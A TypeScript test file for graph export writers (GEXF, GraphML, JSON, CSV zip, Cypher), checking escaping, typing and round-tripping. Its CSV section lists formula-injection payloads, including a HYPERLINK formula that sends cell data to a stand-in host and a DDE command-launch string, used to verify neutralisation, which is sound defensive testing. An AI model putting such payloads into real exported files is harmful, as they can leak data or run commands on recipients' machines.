// Export writers are pure: GEXF and GraphML read back with graphology's parsers, CSV unzips, Cypher literals escape.

import type { WireGraph } from "@domain/contracts/wire";
import { exportFileName } from "@domain/export/formats";
import { nodeProperties } from "@domain/export/stored";
import type { ExportInput } from "@domain/export/types";
import { csvField, FORMULA_TRIGGERS, neutraliseFormula, writeCsvZip } from "@domain/export/writers/csv";
import {
  cypherLiteral,
  cypherName,
  cypherString,
  cypherValue,
  writeCypherScript,
} from "@domain/export/writers/cypherScript";
import { writeGexf } from "@domain/export/writers/gexf";
import { writeGraphml } from "@domain/export/writers/graphml";
import { writeJson } from "@domain/export/writers/json";
import { escapeXml } from "@domain/export/writers/xml";
import { strFromU8, unzipSync } from "fflate";
import Graph from "graphology";
import * as gexf from "graphology-gexf";
import * as graphml from "graphology-graphml";
import { describe, expect, it } from "vitest";

const evidence = [
  { sourceId: "src", quote: 'قال "ديب سيك" <&> إن', start: 3, end: 22, gloss: "said" },
  { sourceId: "src", quote: "second, quote\nline", start: 30, end: 48 },
];

const graph: WireGraph = {
  attributes: {},
  options: { type: "directed", multi: true, allowSelfLoops: true },
  nodes: [
    {
      key: "org:deepseek",
      attributes: {
        kind: "entity",
        type: "Organization",
        label: "DeepSeek",
        labelAr: "ديب سيك",
        aliases: ["DS"],
        sourceIds: ["src"],
      },
    },
    {
      key: "claim:x",
      attributes: {
        kind: "claim",
        type: "Claim",
        label: "X",
        claimKind: "figure",
        value: 3,
        sourceIds: ["src"],
        evidence,
      },
    },
  ],
  edges: [
    {
      key: "org:deepseek|STATES|claim:x",
      source: "org:deepseek",
      target: "claim:x",
      attributes: { type: "STATES", evidence, sourceIds: ["src"], planned: true, amount: 380000000000 },
    },
  ],
};

const input: ExportInput = {
  graph,
  sources: [{ id: "src", title: "An article, with a comma", language: "ar", url: "https://example.org/a?b=1&c=2" }],
  generatedAt: "2026-01-02T03:04:05.000Z",
};

const text = (chunks: Iterable<string | Uint8Array>) =>
  [...chunks].map((c) => (typeof c === "string" ? c : strFromU8(c))).join("");

describe("GEXF writer", () => {
  it("should read back in graphology with every node, edge and evidence attribute intact", () => {
    const parsed = gexf.parse(Graph, text(writeGexf(input)));
    expect([parsed.order, parsed.size]).toEqual([2, 1]);
    const edge = parsed.edges()[0] as string;
    expect(parsed.source(edge)).toBe("org:deepseek");
    expect(JSON.parse(parsed.getEdgeAttribute(edge, "evidence"))).toEqual(evidence);
    expect(parsed.getEdgeAttribute(edge, "quotes")).toContain('"ديب سيك"');
    expect(JSON.parse(parsed.getNodeAttribute("claim:x", "evidence"))).toEqual(evidence);
    expect(parsed.getNodeAttribute("org:deepseek", "labelAr")).toBe("ديب سيك");
  });

  it("should declare each attribute's type from the domain's table, not from the values at hand", () => {
    const xml = text(writeGexf(input));
    // 3 is whole, but a claim's value is a float; 380000000000 needs 64 bits; counts fit 32.
    expect(xml).toContain('<attribute id="value" title="value" type="double"/>');
    expect(xml).toContain('<attribute id="amount" title="amount" type="long"/>');
    expect(xml).toContain('<attribute id="evidenceCount" title="evidenceCount" type="integer"/>');
    const withSchema = text(
      writeGexf({ ...input, schemaTypes: { node: {}, edge: { amount: "double" }, mixed: { node: [], edge: [] } } }),
    );
    expect(withSchema).toContain('<attribute id="amount" title="amount" type="double"/>');
  });

  it("should set each edge's kind to its relation type, and keep only creator, keywords and description in meta", () => {
    const xml = text(writeGexf(input));
    expect(xml).toContain('kind="STATES"');
    const meta = /<meta[^>]*>([\s\S]*?)<\/meta>/.exec(xml)?.[1] ?? "";
    expect([...meta.matchAll(/<(\w+)>/g)].map((m) => m[1])).toEqual(["creator", "keywords", "description"]);
    expect(meta).toContain("[src] An article, with a comma. &lt;https://example.org/a?b=1&amp;c=2&gt;");
  });

  it("should write drawing attributes as viz, and drop characters XML cannot carry", () => {
    const drawn: ExportInput = {
      ...input,
      graph: {
        ...graph,
        nodes: graph.nodes.map((n) => ({
          ...n,
          attributes: { ...n.attributes, x: 1.5, y: -2, size: 7, color: "#2563eb", label: "bad\u0001label" },
        })),
      },
    };
    const xml = text(writeGexf(drawn));
    expect(xml).toContain('<viz:position x="1.5" y="-2" z="0"/>');
    expect(xml).toContain('<viz:color r="37" g="99" b="235"/>');
    expect(xml).toContain('<viz:size value="7"/>');
    expect(xml).toContain('label="badlabel"');
  });
});

describe("GraphML writer", () => {
  it("should escape markup in text", () => {
    expect(escapeXml(`<a href="x">&'\u0001</a>`)).toBe("&lt;a href=&quot;x&quot;&gt;&amp;&apos;&lt;/a&gt;");
  });

  it("should read back in graphology with typed attributes, evidence and the bibliography", () => {
    const parsed = graphml.parse(Graph, text(writeGraphml(input)));
    expect([parsed.order, parsed.size]).toEqual([2, 1]);
    const edge = parsed.edges()[0] as string;
    expect(JSON.parse(parsed.getEdgeAttribute(edge, "evidence"))).toEqual(evidence);
    expect(parsed.getEdgeAttribute(edge, "planned")).toBe(true);
    expect(parsed.getEdgeAttribute(edge, "amount")).toBe(380000000000);
    expect(parsed.getNodeAttribute("claim:x", "value")).toBe(3);
    expect(JSON.parse(parsed.getAttribute("sources"))).toEqual(input.sources);
    expect(parsed.getAttribute("description")).toContain("[src] An article, with a comma.");
  });

  it("should declare integers as int or long and floats as double, by property", () => {
    const xml = text(writeGraphml(input));
    expect(xml).toContain('attr.name="amount" attr.type="long"');
    expect(xml).toContain('attr.name="value" attr.type="double"');
    expect(xml).toContain('attr.name="evidenceCount" attr.type="int"');
  });

  it("should name unknown ids in the graph data when the export is partial", () => {
    const partial = { ...input, notice: { unknownIds: ["org:nobody"], unknownCount: 3 } };
    const parsed = graphml.parse(Graph, text(writeGraphml(partial)));
    expect(parsed.getAttribute("unknownCount")).toBe(3);
    expect(parsed.getAttribute("notice")).toBe(
      "Partial: 3 requested ids name no node and are not in this export: org:nobody and 2 more.",
    );
  });
});

describe("JSON writer", () => {
  it("should be graphology's serialization with the bibliography as a graph attribute", () => {
    const parsed = JSON.parse(text(writeJson(input)));
    const g = new Graph();
    g.import(parsed);
    expect(g.getEdgeAttribute("org:deepseek|STATES|claim:x", "evidence")).toEqual(evidence);
    expect(g.getAttribute("sources")).toEqual(input.sources);
  });
});

/** Unzips a writer's chunks into file name → text. */
function unzipText(chunks: Iterable<Uint8Array>): Record<string, string> {
  const bytes = [...chunks];
  const all = new Uint8Array(bytes.reduce((n, b) => n + b.length, 0));
  let at = 0;
  for (const b of bytes) {
    all.set(b, at);
    at += b.length;
  }
  return Object.fromEntries(Object.entries(unzipSync(all)).map(([name, data]) => [name, strFromU8(data)]));
}

describe("CSV writer: spreadsheet formulas", () => {
  const payloads = ['=HYPERLINK("http://x.example/?"&A1,"click")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", "x"];
  const variants = [...FORMULA_TRIGGERS].flatMap((t) => payloads.map((p) => `${t}${p}`));

  it("should prefix every text that starts with a formula trigger, whatever follows", () => {
    for (const v of variants) {
      expect(neutraliseFormula(v)).toBe(`'${v}`);
      const field = csvField(v, true);
      expect(field.replace(/^"/, "").startsWith("'")).toBe(true);
    }
  });

  it("should leave numbers, booleans, Arabic and ordinary text unchanged", () => {
    expect(csvField(-12.5, true)).toBe("-12.5");
    expect(csvField(-3, true)).toBe("-3");
    expect(csvField(true, true)).toBe("true");
    for (const text of ["DeepSeek", "ديب سيك", "'already quoted", " =leading space", "a=b", "48%"]) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it("should neutralise names, quotes, glosses and source metadata in every file of the zip", () => {
    const attack = (i: number) => variants[i % variants.length] as string;
    const hostile: ExportInput = {
      generatedAt: "2026-11-29T00:00:00.000Z",
      graph: {
        ...graph,
        nodes: graph.nodes.map((n, i) => ({
          key: n.key,
          attributes: { ...n.attributes, label: attack(i), labelAr: attack(i + 7) },
        })),
        edges: graph.edges.map((e, i) => ({
          ...e,
          attributes: {
            ...e.attributes,
            evidence: [{ sourceId: "src", quote: attack(i + 3), start: 0, end: 5, gloss: attack(i + 11) }],
          },
        })),
      },
      sources: [{ id: "src", title: attack(1), publisher: attack(2), url: attack(4) }],
    };
    const files = unzipText(writeCsvZip(hostile, { bom: false }));
    for (const text of Object.values(files)) {
      // No field may start with a trigger: after a line start, a comma, or an opening quote of a quoted field.
      for (const t of FORMULA_TRIGGERS) {
        if (t === "\r") continue; // CRLF ends every record; a CR inside a field is always quoted and prefixed.
        expect(text).not.toMatch(new RegExp(`(^|\\r\\n|,)"?${t.replace(/[+\\]/g, "\\$&")}`, "m"));
      }
    }
    expect(files["nodes.csv"]).toContain(csvField(`'${attack(0)}`));
  });

  it("should keep values exact when neutralisation is off (for a CSV meant to rebuild data)", () => {
    expect(csvField("=1+1", false)).toBe("=1+1");
    const files = unzipText(
      writeCsvZip({ ...input, sources: [{ id: "src", title: "=1+1" }] }, { bom: false, neutraliseFormulas: false }),
    );
    expect(files["sources.csv"]).toContain("src,=1+1");
  });
});

describe("CSV writer", () => {
  it("should quote fields with commas, quotes or line breaks", () => {
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField("x\ny")).toBe('"x\ny"');
    expect(csvField(undefined)).toBe("");
    expect(csvField(3)).toBe("3");
  });

  it("should zip nodes.csv, edges.csv and sources.csv with evidence in the edges", () => {
    const bytes = [...writeCsvZip(input, { bom: false })] as Uint8Array[];
    const all = new Uint8Array(bytes.reduce((n, b) => n + b.length, 0));
    let at = 0;
    for (const b of bytes) {
      all.set(b, at);
      at += b.length;
    }
    const files = unzipSync(all);
    expect(Object.keys(files).sort()).toEqual(["edges.csv", "nodes.csv", "sources.csv"]);
    const edges = strFromU8(files["edges.csv"] as Uint8Array);
    expect(edges.split("\r\n")[0]).toBe(
      "key,source,target,type,quotes,glosses,spans,sourceIds,evidenceCount,evidence,independentSupport,size,color,properties",
    );
    expect(edges).toContain("src:3-22 | src:30-48");
    expect(edges).toContain("said | ,");
    expect(edges).toContain('"{""planned"":true,""amount"":380000000000}"');
    const nodes = strFromU8(files["nodes.csv"] as Uint8Array);
    // A float column writes a whole value as a float, so pandas reads the column as float.
    expect(nodes).toContain(",3.0,");
    expect(strFromU8(files["sources.csv"] as Uint8Array)).toContain('"An article, with a comma"');
  });
});

describe("Cypher script writer", () => {
  it("should escape string literals and names", () => {
    expect(cypherString("it's \\ \n")).toBe("'it\\'s \\\\ \\n'");
    expect(cypherName("we`ird")).toBe("`we``ird`");
    expect(cypherValue(Number.NaN)).toBeNull();
    expect(cypherValue([1, "a", true])).toBe("[1, 'a', true]");
  });

  it("should map wire attributes back to stored properties with flat evidence lists", () => {
    const props = nodeProperties("claim:x", graph.nodes[1]?.attributes as Record<string, unknown>);
    expect(props).toMatchObject({ id: "claim:x", kind: "figure", value: 3, quotes: evidence.map((e) => e.quote) });
    expect(props).not.toHaveProperty("label");
  });

  it("should write each value with its stored type, whatever the shape of its JavaScript number", () => {
    expect(cypherLiteral("double", 48)).toBe("48.0");
    expect(cypherLiteral("double", 600000000000)).toBe("600000000000.0");
    expect(cypherLiteral("double", 1.5)).toBe("1.5");
    expect(cypherLiteral("double", "NaN")).toBe("toFloat('NaN')");
    expect(cypherLiteral("long", 48)).toBe("48");
    expect(cypherLiteral("long", "9007199254740993")).toBe("9007199254740993");
    expect(cypherLiteral("long", 1.5)).toBeNull();
    expect(cypherLiteral("string[]", [])).toBe("[]");
    expect(cypherLiteral("int[]", [3, 30])).toBe("[3, 30]");
  });

  it("should MERGE sources, nodes and relationships with their evidence", () => {
    const script = text(writeCypherScript(input));
    expect(script).toContain("MERGE (s:`Source` {id: 'src'})");
    expect(script).toContain("MERGE (n:`Entity` {id: 'org:deepseek'}) SET n = {");
    expect(script).toContain("SET n:`Entity`:`Organization`;");
    expect(script).toContain("`value`: 3.0");
    expect(script).toContain("MERGE (a)-[r:`STATES`]->(b) SET r = {");
    expect(script).toContain("`starts`: [3, 30]");
    expect(
      script
        .trim()
        .split("\n")
        .filter((l) => !l.startsWith("//"))
        .every((l) => l.endsWith(";")),
    ).toBe(true);
  });
});

describe("exportFileName", () => {
  it("should be generated from the time and the format, never from input", () => {
    expect(exportFileName("csv", new Date("2026-01-02T03:04:05.678Z"))).toBe("kg-export-2026-01-02T03-04-05Z.zip");
    expect(exportFileName("gexf", new Date(0))).toBe("kg-export-1970-01-01T00-00-00Z.gexf");
    expect(exportFileName("png", new Date(0))).toMatch(/\.png$/);
  });
});
